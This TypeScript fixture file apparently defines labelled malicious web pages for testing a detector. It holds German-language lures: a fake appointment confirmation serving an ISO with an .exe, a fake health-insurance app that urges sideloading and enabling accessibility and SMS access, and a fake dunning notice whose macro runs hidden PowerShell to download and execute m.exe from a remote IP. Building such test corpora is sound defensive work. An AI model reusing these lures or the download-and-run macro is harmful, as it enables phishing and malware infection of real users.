import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64 } from '../parts/zv-kit.js';
import { zip, pe, lnk, iso, apk, cfb, fileRoute, jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-termin-bestaetigung-iso', label: 'malware', kind: 'fake-appointment-download',
  url: 'https://praxis-terminbestaetigung.de/termin/?id=77120',
  body: doc({ title: 'Terminbestätigung – Gemeinschaftspraxis', css: '.btn{background:#2e7d32;color:#fff}',
    body: `<div class="wrap" style="max-width:560px"><div class="box" style="margin-top:40px"><h2>Ihre Terminbestätigung</h2><p>Sehr geehrte Patientin, sehr geehrter Patient, anbei erhalten Sie Ihre Terminbestätigung mit Anamnesebogen. Bitte füllen Sie den Bogen vor dem Termin aus.</p><p><a class="btn" href="/termin/Terminbestaetigung_77120.iso" download>Terminbestätigung öffnen</a></p></div></div>` }),
  routes: { 'praxis-terminbestaetigung.de/termin/Terminbestaetigung_77120.iso': fileRoute(iso('TERMIN_77120', ['Terminbestaetigung.exe', 'Anamnesebogen.pdf.lnk']), 'application/x-iso9660-image', 'Terminbestaetigung_77120.iso') },
},
{
  id: 'zv-gesundheitsapp-apk-sideload', label: 'malware', kind: 'fake-health-app',
  url: 'https://epa-app-download.de-gesundheit.app/',
  body: doc({ title: 'ePA-App – Ihre elektronische Patientenakte', css: '.btn{background:#1565c0;color:#fff}.step{background:#f0f4fa;padding:10px;margin:6px 0;border-radius:4px}',
    body: `<div class="wrap" style="max-width:600px"><div class="box" style="margin-top:30px"><h1>ePA-App jetzt installieren</h1><p>Die offizielle App aller gesetzlichen Krankenkassen. Rezepte, Befunde und Impfpass an einem Ort. Pflicht für alle Versicherten ab 2025.</p>
<p><a class="btn" href="/dl/ePA-App_v3.2.apk">Für Android herunterladen (APK, 14 MB)</a></p><h3>Installation</h3><div class="step">1. Erlauben Sie „Installation aus unbekannten Quellen“ in den Einstellungen.</div><div class="step">2. Öffnen Sie die heruntergeladene Datei.</div><div class="step">3. Aktivieren Sie in der App die Bedienungshilfe „ePA-Dienst“, damit Rezepte automatisch eingelesen werden.</div></div></div>` }),
  routes: { 'epa-app-download.de-gesundheit.app/dl/ePA-App_v3.2.apk': fileRoute(apk('de.gesundheit.epa.app', 'ePA App', ['android.permission.BIND_ACCESSIBILITY_SERVICE', 'android.permission.RECEIVE_SMS', 'android.permission.READ_SMS', 'android.permission.REQUEST_INSTALL_PACKAGES']), 'application/vnd.android.package-archive', 'ePA-App_v3.2.apk') },
},
{
  id: 'zv-mahnung-docm-makro', label: 'malware', kind: 'fake-invoice-download',
  url: 'https://inkasso-mahnstelle.eu/akte/M-558120/download',
  routes: {
    'inkasso-mahnstelle.eu/akte/M-558120/download': redirectRoute(302, 'https://inkasso-mahnstelle.eu/files/Mahnung_M-558120.docm'),
    'inkasso-mahnstelle.eu/files/Mahnung_M-558120.docm': fileRoute(zip([{ name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>' }, { name: 'word/document.xml', data: '<w:document><w:body><w:p><w:r><w:t>Bitte aktivieren Sie die Bearbeitung und den Inhalt, um die Mahnung anzuzeigen.</w:t></w:r></w:p></w:body></w:document>' }, { name: 'word/vbaProject.bin', data: cfb(['Sub AutoOpen()', 'Shell "cmd /c powershell -w hidden -c iwr http://185.244.25.17/m.exe -o %TEMP%\\m.exe; start %TEMP%\\m.exe"', 'End Sub']) }]), 'application/vnd.ms-word.document.macroEnabled.12', 'Mahnung_M-558120.docm'),
  },
},
];
